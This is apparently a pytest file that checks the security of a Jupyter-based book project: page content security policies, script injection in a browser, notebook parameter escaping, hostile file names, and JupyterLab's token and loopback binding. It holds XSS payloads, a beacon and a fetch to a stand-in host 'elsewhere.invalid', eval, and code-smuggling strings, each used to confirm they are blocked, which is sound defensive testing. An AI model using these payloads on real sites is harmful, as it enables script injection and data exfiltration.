"""Nothing that a page, a chapter or its data says is run: the policy of pages, parameters, names, JupyterLab's door."""

from __future__ import annotations

import json
import re
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any
from urllib.error import HTTPError

import pytest
from papermill.iorw import load_notebook_node
from papermill.parameterize import parameterize_notebook
from visiting import open_page

from mixvocab.cli import main
from mixvocab_book.press.sphinx_ext import content_security_policy

ROOT = Path(__file__).parents[2]
INJECTED = """() => {
  const article = document.querySelector("article");
  const script = document.createElement("script");
  script.textContent = "globalThis.pwned = 'script'";
  article.append(script);
  article.insertAdjacentHTML("beforeend", `<img src="data:," onerror="globalThis.pwned = 'handler'">`);
  article.insertAdjacentHTML("beforeend", '<a id="evil" href="javascript:globalThis.pwned = 1">x</a>');
  document.querySelector("#evil").click();
  const remote = document.createElement("script");
  remote.src = "http://elsewhere.invalid/evil.js";
  article.append(remote);
}"""
# Later, since what a browser's driver runs itself may always compile text.
ASKED = """() => new Promise((done) => setTimeout(async () => {
  const answers = [];
  new Image().src = "http://elsewhere.invalid/pixel.png?secret";
  for (const ask of [() => fetch("http://elsewhere.invalid/"), () => new Function("globalThis.pwned = 'eval'")()])
    try { await ask(); answers.push("done"); } catch (error) { answers.push(error.name); }
  done(answers);
}))"""


def test_the_policy_trusts_what_stands_around_the_text_and_nothing_in_it() -> None:
    page = "<head><script>theme()</script></head><button onclick='x' onclick=\"full()\">a</button>"
    policy = content_security_policy(page)
    assert policy.count("'sha256-") == 2
    assert "unsafe-eval" not in policy
    text = '<article><script>evil()</script><p onclick="evil()"></article> <script>evil()</script></article>'
    assert content_security_policy(page + text) == policy
    assert content_security_policy(page.replace("theme()", "other()")) != policy


def test_every_page_carries_a_policy_before_anything_it_loads(pages: Path, names: list[str]) -> None:
    for name in names:
        text = (pages / name).read_text(encoding="utf-8")
        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', text)
        assert policy, name
        assert not re.search("<(script|link|style)", text[: policy.start()]), name
        assert re.match("default-src '(self|none)';", policy[1]), name
        assert not re.search(r"https?:|\*", policy[1]), name
        of_a_kernel = "vnd.jupyter.widget-view+json" in text
        assert ("'unsafe-eval'" in policy[1]) == of_a_kernel, name


def test_what_is_smuggled_into_a_page_neither_runs_nor_calls_home(context, base: str) -> None:
    context.add_init_script(
        "globalThis.refused = [];"
        "addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))"
    )
    page, wrong, outside = open_page(context, base, "book/intro.html")
    assert not wrong
    assert page.evaluate("refused") == []
    page.evaluate(INJECTED)
    assert page.evaluate(ASKED) == ["TypeError", "EvalError"]
    page.wait_for_timeout(100)  # for what would run late
    assert page.evaluate("globalThis.pwned") is None
    refused = {"script-src-elem", "script-src-attr", "img-src", "connect-src", "script-src"}
    assert set(page.evaluate("refused")) == refused
    assert not [request for request in outside if not request.startswith("http://elsewhere.invalid")]


def test_a_parameter_is_a_value_whatever_it_spells() -> None:
    notebook = load_notebook_node(str(ROOT / "notebooks" / "02_mixing.ipynb"))
    for value in ('"; raise SystemExit; "', "'''\nraise SystemExit\n'''", "\\", "{chapter}", "a\nimport os"):
        given = parameterize_notebook(notebook, {"profile": value})
        (cell,) = [cell for cell in given.cells if "injected-parameters" in cell.metadata.get("tags", [])]
        known: dict[str, object] = {}
        exec(cell.source, known)
        assert known["profile"] == value


def test_names_of_files_are_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "text\n=cmd()|<img src=x onerror=y>"
    folder.mkdir()
    (folder / "a.txt").write_bytes(b"caf\xe9\n")
    with pytest.raises(SystemExit) as ended:
        main(["vocab", str(folder), "--out", str(tmp_path / "out")])
    assert ended.value.code == 2
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_jupyterlab_asks_for_its_token_and_listens_on_loopback(tmp_path: Path) -> None:
    """With the very options of `make lab`, beside settings that would open it to everyone."""
    pytest.importorskip("jupyterlab")
    told = subprocess.run(["make", "-n", "lab"], cwd=ROOT, capture_output=True, text=True, check=True).stdout
    (options,) = re.findall(r"jupyter lab (.*)", told)
    (tmp_path / "jupyter_server_config.json").write_text(json.dumps({"ServerApp": {"ip": "0.0.0.0"}}))
    command = [sys.executable, "-m", "jupyter", "lab", *options.split(), "--no-browser", "--allow-root", "--port=0"]
    environment = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "JUPYTER_CONFIG_DIR": str(tmp_path)}
    environment["JUPYTER_RUNTIME_DIR"] = str(tmp_path / "runtime")
    with (tmp_path / "log").open("wb") as log:
        server = subprocess.Popen(command, cwd=ROOT, env=environment, stdout=log, stderr=log)
    try:
        running = one_server(tmp_path / "runtime", server)
        port, token = running["port"], running["token"]
        assert len(token) >= 40
        address = f"http://127.0.0.1:{port}/api/contents"
        with pytest.raises(HTTPError, match="403"):
            urllib.request.urlopen(address)
        with urllib.request.urlopen(f"{address}?token={token}") as answer:
            assert answer.status == 200
        with pytest.raises(OSError):  # noqa: PT011 - another address of this machine, and 0.0.0.0 would answer there
            socket.create_connection(("127.0.0.2", port), timeout=5)
        assert running["hostname"] == "127.0.0.1"
    finally:
        server.kill()
        server.wait()


def one_server(runtime: Path, server: subprocess.Popen[bytes]) -> dict[str, Any]:
    """What a Jupyter server says of itself once it answers."""
    for _ in range(480):
        assert server.poll() is None
        try:
            (told,) = [json.loads(file.read_text()) for file in runtime.glob("jpserver-*.json")]
            with urllib.request.urlopen(f"{told['url']}api/status?token={told['token']}", timeout=5):
                return told
        except (OSError, ValueError):  # not written, half written, or not yet listening
            time.sleep(0.25)
    pytest.fail("JupyterLab does not answer")
